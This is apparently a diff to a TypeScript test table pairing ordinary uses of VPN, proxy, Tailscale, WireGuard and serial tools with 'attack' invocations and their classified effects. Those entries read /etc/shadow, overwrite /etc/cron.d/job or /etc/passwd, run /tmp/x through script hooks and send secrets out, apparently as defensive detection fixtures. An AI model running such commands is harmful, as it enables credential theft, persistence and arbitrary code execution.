@@ -2,7 +2,7 @@ import type { ExampleTable } from './example.ts'
 
 export const remoteAccess2: ExampleTable = {
   sockd: {
-    use: 'sockd → listen 1080',
+    use: 'sockd -f sockd.conf → read sockd.conf; listen 1080',
     attack: 'sockd -f /etc/shadow → read /etc/shadow; listen 1080',
   },
   socksify: {
@@ -10,69 +10,60 @@ export const remoteAccess2: ExampleTable = {
     attack: ['socksify cat /etc/shadow → read /etc/shadow', 'socksify bash → shell bash'],
   },
   sslsplit: {
-    use: 'sslsplit -l out.txt → write out.txt',
+    use: 'sslsplit -k ca.key -c ca.pem -l connections.log https 127.0.0.1 8443 → write connections.log',
     attack: [
-      'sslsplit -l /etc/cron.d/job → write /etc/cron.d/job',
-      'sslsplit -L /etc/cron.d/job → write /etc/cron.d/job',
+      'sslsplit -k ca.key -c ca.pem -l /etc/cron.d/job https 127.0.0.1 8443 → write /etc/cron.d/job',
+      'sslsplit -k ca.key -c ca.pem -L /etc/cron.d/job https 127.0.0.1 8443 → write /etc/cron.d/job',
     ],
   },
   sslstrip: {
-    use: 'sslstrip -l 8080 → listen 8080',
-    attack: 'sslstrip -w /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'sslstrip -l 8080 -w strip.log → listen 8080; write strip.log',
+    attack: 'sslstrip -l 8080 -w /etc/cron.d/job → listen 8080; write /etc/cron.d/job',
   },
-  tinyproxy: {
-    use: 'tinyproxy → listen 8888',
-    attack: 'tinyproxy -c /etc/shadow → read /etc/shadow; listen 8888',
-  },
-  tor: {
-    use: 'tor -f app.conf → read app.conf',
-    attack: 'tor -f /etc/shadow → read /etc/shadow',
-  },
+  tinyproxy: { use: 'tinyproxy -c tinyproxy.conf → read tinyproxy.conf; listen 8888' },
+  tor: { use: 'tor -f torrc → read torrc', attack: 'tor -f /etc/shadow → read /etc/shadow' },
   zaproxy: {
-    use: 'zaproxy --script=main.js → read main.js',
-    attack: 'zaproxy --script=/etc/shadow → read /etc/shadow',
+    use: 'zaproxy -cmd -script scan.js → read scan.js',
+    attack: 'zaproxy -cmd -script /etc/shadow → read /etc/shadow',
   },
   openconnect: {
-    use: 'openconnect db.example.org → send db.example.org',
+    use: 'openconnect -u ann vpn.example.org → send vpn.example.org',
     attack: [
-      'openconnect db.example.org -s /tmp/x → run /tmp/x; send db.example.org',
-      `openconnect db.example.org -s 'cat /etc/shadow' → read /etc/shadow; send db.example.org`,
+      'openconnect -s /tmp/x vpn.example.org → run /tmp/x; send vpn.example.org',
+      'openconnect --csd-wrapper=/tmp/x vpn.example.org → run /tmp/x; send vpn.example.org',
     ],
   },
   openvpn: {
-    use: 'openvpn app.conf → read app.conf',
+    use: 'openvpn client.ovpn → read client.ovpn',
     attack: [
-      'openvpn /etc/shadow → read /etc/shadow',
-      'openvpn app.conf --config=/etc/shadow → read /etc/shadow; read app.conf',
+      'openvpn --config client.ovpn --script-security 2 --up /tmp/x → read client.ovpn; run /tmp/x',
+      'openvpn --config /etc/shadow → read /etc/shadow',
     ],
   },
-  pppd: {
-    use: 'pppd demo → nothing',
-  },
+  pppd: { use: 'pppd call provider → nothing', attack: 'pppd connect /tmp/x → run /tmp/x' },
   pump: {
-    use: 'pump → nothing',
-    attack: ['pump --script=/tmp/x → run /tmp/x', 'pump -c /etc/shadow → read /etc/shadow'],
+    use: 'pump -i eth0 -c pump.conf → read pump.conf',
+    attack: 'pump -i eth0 --script=/tmp/x → run /tmp/x',
   },
   'tailscale cert': {
-    use: 'tailscale cert --cert-file=out.txt → write out.txt',
+    use: 'tailscale cert --cert-file=host.pem --key-file=host.key host.example.ts.net → write host.pem; write host.key',
     attack: [
-      'tailscale cert --cert-file=/etc/cron.d/job → write /etc/cron.d/job',
-      'tailscale cert --key-file=/etc/cron.d/job → write /etc/cron.d/job',
+      'tailscale cert --cert-file=/etc/passwd host.example.ts.net → write /etc/passwd',
+      'tailscale cert --key-file=/etc/passwd host.example.ts.net → write /etc/passwd',
     ],
   },
   'tailscale file': {
-    use: 'tailscale file → nothing',
+    use: 'tailscale file cp notes.txt phone: → read notes.txt; send phone:',
+    attack: 'tailscale file cp /etc/shadow phone: → read /etc/shadow; send phone:',
   },
   'tailscale funnel': {
-    use: 'tailscale funnel notes.txt → read notes.txt; listen tailscale funnel; send tailscale funnel',
+    use: 'tailscale funnel /srv/public → read /srv/public; listen tailscale funnel; send tailscale funnel',
     attack:
       'tailscale funnel /etc/shadow → read /etc/shadow; listen tailscale funnel; send tailscale funnel',
   },
-  'tailscale login': {
-    use: 'tailscale login → nothing',
-  },
+  'tailscale login': { use: 'tailscale login → nothing' },
   'tailscale serve': {
-    use: 'tailscale serve notes.txt → read notes.txt; send tailscale serve',
+    use: 'tailscale serve /srv/public → read /srv/public; send tailscale serve',
     attack: 'tailscale serve /etc/shadow → read /etc/shadow; send tailscale serve',
   },
   'tailscale ssh': {
@@ -80,83 +71,70 @@ export const remoteAccess2: ExampleTable = {
     attack: 'tailscale ssh db.example.org cat /etc/shadow → read /etc/shadow; send db.example.org',
   },
   vpnc: {
-    use: 'vpnc app.conf → read app.conf',
-    attack: [
-      'vpnc /etc/shadow → read /etc/shadow',
-      'vpnc app.conf --script=/tmp/x → run /tmp/x; read app.conf',
-    ],
+    use: 'vpnc office.conf → read office.conf',
+    attack: 'vpnc office.conf --script=/tmp/x → run /tmp/x; read office.conf',
   },
   'wg addconf': {
-    use: 'wg addconf wg0 app.conf → read app.conf',
+    use: 'wg addconf wg0 peer.conf → read peer.conf',
     attack: 'wg addconf wg0 /etc/shadow → read /etc/shadow',
   },
   'wg setconf': {
-    use: 'wg setconf wg0 app.conf → read app.conf',
+    use: 'wg setconf wg0 wg0.conf → read wg0.conf',
     attack: 'wg setconf wg0 /etc/shadow → read /etc/shadow',
   },
-  'wg showconf': {
-    attack: 'wg showconf → read secret://; read secret://wg',
-  },
+  'wg showconf': { attack: 'wg showconf wg0 → read secret://wg0; read secret://wg' },
   'wg syncconf': {
-    use: 'wg syncconf wg0 app.conf → read app.conf',
+    use: 'wg syncconf wg0 wg0.conf → read wg0.conf',
     attack: 'wg syncconf wg0 /etc/shadow → read /etc/shadow',
   },
   'wg-quick': {
-    use: 'wg-quick up app.conf → read app.conf',
-    attack: 'wg-quick up /etc/shadow → read /etc/shadow',
+    use: 'wg-quick up wg0.conf → read wg0.conf',
+    attack: 'wg-quick up /tmp/wg0.conf → run /tmp/wg0.conf',
   },
-  wvdial: {
-    use: 'wvdial -C app.conf → read app.conf',
-    attack: 'wvdial -C /etc/shadow → read /etc/shadow',
-  },
+  wvdial: { use: 'wvdial -C wvdial.conf → read wvdial.conf' },
   chat: {
-    use: 'chat -f main.txt → read main.txt',
+    use: 'chat -v -f dial.chat → read dial.chat',
     attack: [
-      'chat -f /etc/shadow → read /etc/shadow',
-      'chat -r /etc/cron.d/job → write /etc/cron.d/job',
+      'chat -v -f /etc/shadow → read /etc/shadow',
+      'chat -r /etc/cron.d/job -f dial.chat → write /etc/cron.d/job; read dial.chat',
     ],
   },
   efax: {
-    use: 'efax -d notes.txt → read notes.txt',
-    attack: [
-      'efax -d /etc/shadow → read /etc/shadow',
-      'efax -t /etc/shadow → read /etc/shadow; send efax',
-    ],
+    use: 'efax -d /dev/modem -t 5551234 page.tif → read page.tif; send efax',
+    attack: 'efax -d /dev/modem -t 5551234 /etc/shadow → read /etc/shadow; send efax',
   },
   gtkterm: {
-    use: 'gtkterm -f notes.txt → read notes.txt',
-    attack: 'gtkterm -f /etc/shadow → read /etc/shadow',
+    use: 'gtkterm -p /dev/ttyUSB0 -f firmware.hex → read firmware.hex',
+    attack: 'gtkterm -p /dev/ttyUSB0 -f /etc/shadow → read /etc/shadow',
   },
   kermit: {
-    use: 'kermit main.txt → read main.txt',
-    attack: ['kermit /etc/shadow → read /etc/shadow', `kermit -C '!/tmp/x' main.txt → run /tmp/x`],
+    use: 'kermit transfer.ksc → read transfer.ksc',
+    attack: [`kermit -C '!/tmp/x' → run /tmp/x`, 'kermit /etc/shadow → read /etc/shadow'],
   },
   minicom: {
-    use: 'minicom -S main.txt → read main.txt',
+    use: 'minicom -D /dev/ttyUSB0 -C console.log → write console.log',
     attack: [
-      'minicom -S /etc/shadow → read /etc/shadow',
-      'minicom -C /etc/cron.d/job → write /etc/cron.d/job',
+      'minicom -D /dev/ttyUSB0 -S /etc/shadow → read /etc/shadow',
+      'minicom -D /dev/ttyUSB0 -C /etc/cron.d/job → write /etc/cron.d/job',
     ],
   },
   picocom: {
-    use: `picocom --send-cmd='cat notes.txt' → read notes.txt`,
+    use: 'picocom -b 115200 --logfile console.log /dev/ttyUSB0 → write console.log',
     attack: [
-      'picocom --send-cmd=/tmp/x → run /tmp/x',
-      `picocom --send-cmd='cat /etc/shadow' → read /etc/shadow`,
+      'picocom --send-cmd=/tmp/x /dev/ttyUSB0 → run /tmp/x',
+      `picocom --send-cmd='cat /etc/shadow' /dev/ttyUSB0 → read /etc/shadow`,
     ],
   },
   sendfax: {
-    use: 'sendfax notes.txt → read notes.txt; send sendfax',
-    attack: 'sendfax /etc/shadow → read /etc/shadow; send sendfax',
+    use: 'sendfax -n -d 5551234 page.ps → read page.ps; send sendfax',
+    attack: 'sendfax -n -d 5551234 /etc/shadow → read /etc/shadow; send sendfax',
   },
   tio: {
-    use: 'tio --log-file=out.txt → write out.txt',
+    use: 'tio --log-file=console.log /dev/ttyUSB0 → write console.log',
     attack: [
-      'tio --log-file=/etc/cron.d/job → write /etc/cron.d/job',
-      `tio --script='os.execute("/tmp/x")' → run /tmp/x`,
+      'tio --log-file=/etc/cron.d/job /dev/ttyUSB0 → write /etc/cron.d/job',
+      `tio --script='os.execute("/tmp/x")' /dev/ttyUSB0 → run /tmp/x`,
     ],
   },
-  vpnbridge: {
-    use: 'vpnbridge → listen vpnbridge',
-  },
+  vpnbridge: { use: 'vpnbridge start → listen vpnbridge' },
 }
